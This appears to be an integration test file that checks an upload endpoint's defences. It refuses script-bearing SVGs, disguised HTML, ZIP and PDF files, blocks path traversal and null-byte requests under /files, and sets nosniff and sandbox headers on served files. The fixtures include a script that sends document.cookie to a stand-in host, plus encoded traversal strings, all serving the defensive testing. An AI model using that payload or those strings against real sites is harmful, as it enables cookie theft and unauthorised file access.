import { mkdirSync, writeFileSync } from "node:fs"
import path from "node:path"
import { medusaIntegrationTestRunner } from "@medusajs/test-utils"
import { filesForm, openProposals, png, type Proposals } from "../proposals"
import { testEnvironment } from "../world"

jest.setTimeout(300_000)

const environment = testEnvironment()
Object.assign(process.env, environment)

const SCRIPT = `<script>fetch("https://stranger.example/" + document.cookie)</script>`
const svg = Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg" width="64" height="64">${SCRIPT}</svg>`)
const html = Buffer.from(`<!doctype html><html><body>${SCRIPT}</body></html>`.padEnd(200))
const zip = Buffer.concat([Buffer.from("504b0304140000000800", "hex"), Buffer.alloc(200, 1)])
const pdf = Buffer.from("%PDF-1.7\n1 0 obj <</OpenAction <</S /JavaScript>>>> endobj".padEnd(200))
/** Says PNG in its first bytes and nothing of a picture after. */
const halfPng = Buffer.concat([Buffer.from("89504e470d0a1a0a", "hex"), html])

medusaIntegrationTestRunner({
  moduleName: "bad-input-uploads",
  env: environment,
  testSuite: ({ api, getContainer }) => {
    let desk: Proposals

    beforeAll(async () => {
      desk = await openProposals(getContainer(), api)
    })

    const upload = (...files: [string, Buffer][]) => desk.supplier.post("/supplier/uploads", filesForm(...files))
    const serve = (address: string) =>
      api.request({ method: "GET", url: address, validateStatus: () => true, responseType: "arraybuffer" } as never)

    it.each<[string, string, Buffer]>([
      ["SVG with a script", "picture.svg", svg],
      ["SVG that calls itself a PNG", "picture.png", svg],
      ["a page that calls itself a JPEG", "picture.jpg", html],
      ["a ZIP", "pictures.zip", zip],
      ["a ZIP that calls itself a PNG", "picture.png", zip],
      ["a PDF", "picture.pdf", pdf],
      ["a PNG in its first bytes only", "picture.png", halfPng],
      ["an empty file", "picture.png", Buffer.alloc(0)],
    ])("%s is refused, and nothing is kept", async (_, name, bytes) => {
      const { status, data } = await upload([name, bytes])
      expect([status, data.code]).toEqual([400, "upload.not_a_picture"])
      expect(await desk.knex("upload").select("id")).toEqual([])
    })

    it("50 MB are refused with a sentence before they are whole", async () => {
      const { status, data } = await upload(["vast.png", Buffer.concat([png(), Buffer.alloc(50 * 1024 * 1024)])])
      expect([status, data.code]).toEqual([400, "upload.too_large"])
      expect(await desk.knex("upload").select("id")).toEqual([])
    })

    it("a picture with a page behind it is served as a picture only: no sniffing, no scripts", async () => {
      const polyglot = png({ tail: SCRIPT })
      const { status, data } = await upload(["page.html", polyglot])
      expect([status, data.message]).toEqual([200, undefined])
      const address = new URL(String(data.files[0]?.url)).pathname
      expect(address).toMatch(/^\/files\/[\w-]+\.png$/)
      const served = await serve(address)
      expect(served.status).toBe(200)
      expect(served.headers).toMatchObject({
        "content-type": "image/png",
        "x-content-type-options": "nosniff",
        "content-security-policy": expect.stringContaining("sandbox"),
      })
      expect(served.headers["content-security-policy"]).toContain("default-src 'none'")
    })

    it("nothing but known pictures of the public folder leaves /files", async () => {
      const folder = String(process.env.FILES_DIR)
      for (const part of ["public", "private"]) mkdirSync(path.join(folder, part), { recursive: true })
      writeFileSync(path.join(folder, "private", "invoice.png"), png())
      writeFileSync(path.join(folder, "public", "page.html"), html)
      writeFileSync(path.join(folder, "public", ".env"), "SECRET=1")
      const addresses = [
        "page.html",
        ".env",
        "..%2Fprivate%2Finvoice.png",
        "%2e%2e%2fprivate%2finvoice.png",
        "nobody.png",
      ]
      for (const key of [...addresses, "a%00.png", "a".repeat(5000) + ".png", "%E0%A4%A.png"]) {
        const { status } = await serve(`/files/${key}`)
        expect([key.slice(0, 40), [400, 404].includes(status)]).toEqual([key.slice(0, 40), true])
      }
    })

    it("fields that aren't files, and files in other fields, are refused", async () => {
      const form = new FormData()
      form.append("supplier_id", "sup_stranger")
      form.append("files", new Blob([new Uint8Array(png())]), "a.png")
      const withField = await desk.supplier.post("/supplier/uploads", form)
      expect([withField.status, withField.data.code]).toEqual([400, "upload.unreadable"])
      const nothing = await desk.supplier.post("/supplier/uploads", {})
      expect([nothing.status, nothing.data.code]).toEqual([400, "upload.empty"])
    })
  },
})
